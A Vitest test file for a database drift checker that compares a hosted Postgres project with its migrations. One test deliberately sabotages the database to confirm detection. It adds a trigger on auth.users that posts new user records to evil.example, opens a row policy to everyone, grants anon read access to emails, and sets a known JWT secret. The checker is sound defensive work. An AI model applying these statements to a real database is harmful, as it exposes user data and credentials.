import { readFileSync } from "node:fs";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Entry } from "../../scripts/doctor/catalogue.ts";
import { checkDatabase } from "../../scripts/doctor/check-database.ts";
import { readExpected } from "../../scripts/doctor/expected.ts";
import type { Finding } from "../../scripts/doctor/finding.ts";
import { type OpenDatabase, openMigratedDatabase } from "../../scripts/migrated-database.ts";
import { harmless, noticed, sabotages } from "../support/doctor/sabotage.ts";

const hostedProject = "tests/support/doctor/hosted-project.sql";
const secondFactor =
  "insert into auth.mfa_factors (id, user_id, factor_type, status, created_at, updated_at) select gen_random_uuid(), user_id, 'totp', 'verified', now(), now() from public.admins";

let hosted: OpenDatabase;
let expected: Entry[];
let plain: Finding[];

const open = (findings: Finding[]) => findings.flatMap((finding) => (finding.state === "well" ? [] : [finding]));
const check = async (): Promise<Finding[]> =>
  checkDatabase(async (sql) => (await hosted.database.query<Record<string, unknown>>(sql)).rows, {
    expect: async () => expected,
  });

/** What the doctor finds in a fresh hosted project after this change, which is rolled back. */
async function findAfter(sql: string) {
  await hosted.database.exec("begin");
  try {
    await hosted.database.exec(sql);
    return open(await check());
  } finally {
    await hosted.database.exec("rollback");
  }
}

beforeAll(async () => {
  hosted = await openMigratedDatabase();
  expected = await readExpected();
  plain = await check();
  await hosted.database.exec(readFileSync(hostedProject, "utf8"));
  await hosted.database.exec(secondFactor);
});
afterAll(() => hosted?.close());

test("the embedded database does not differ from the migrations", () => {
  expect(open(plain).map(({ text }) => text)).toEqual([
    "admins without a second factor: 1",
    "no job deletes old enquiries, as the privacy policy promises",
    expect.stringMatching(/^nobody is told of an enquiry/),
  ]);
});

test("harmless changes get no line, and changes that an owner may want get a yellow one", async () => {
  expect(await findAfter(harmless.join(";\n"))).toEqual([]);
  const states = (await findAfter(noticed.join(";\n"))).map(({ state }) => state);
  expect(states).toEqual(["to do", ...noticed.map(() => "to do")]);
});

const redLines = (findings: Finding[]) => findings.filter(({ state }) => state === "ill");
const statementOf = (finding: Finding) =>
  finding.state === "well" ? null : (/in the SQL editor: (.*)$/.exec(finding.remedy)?.[1] ?? null);

test.each(Object.entries(sabotages))(
  "%s: each sabotage is one red line, and the statements in the remedies undo it",
  async (_what, batch) => {
    const red = redLines(await findAfter(batch.join(";\n")));
    expect(red.map(({ text }) => text)).toHaveLength(batch.length);
    const statements = red.flatMap((finding) => statementOf(finding) ?? []);
    expect(redLines(await findAfter([...batch, ...statements].join(";\n")))).toEqual(
      red.filter((finding) => statementOf(finding) === null),
    );
  },
);

test("a line says what differs, and gives only the host of a URL", async () => {
  const change = `alter policy "Visitors can read published posts" on public.blog_posts using (true);
    grant select (email) on public.enquiries to anon; alter role authenticator set pgrst.jwt_secret = 'known';
    create trigger hook after insert on auth.users for each row
      execute function supabase_functions.http_request('https://user:key@evil.example/secret', 'POST', '{}', '{}', '5000')`;
  const texts = (await findAfter(change)).map(({ text }) => text);
  expect(texts).toEqual([
    expect.stringMatching(
      /^the policy "Visitors can read published posts" on public\.blog_posts is not as in the migrations \(\(true\) instead of .*now\(\)/,
    ),
    "the grant select (email) on public.enquiries to anon is in no migration",
    "the setting pgrst.jwt_secret of role authenticator is in no migration",
    "the trigger hook on auth.users is in no migration, and calls evil.example",
  ]);
});

test("rows that cannot be read get a line with the reason, and the rest is still reported", async () => {
  const texts = (await findAfter("alter table private.picture_uses rename stem to trunk")).map(({ text }) => text);
  expect(texts).toEqual(
    expect.arrayContaining([
      "the column stem of private.picture_uses is missing",
      expect.stringMatching(/^the rows that others depend on could not be looked at: column u\.stem does not exist/),
    ]),
  );
});
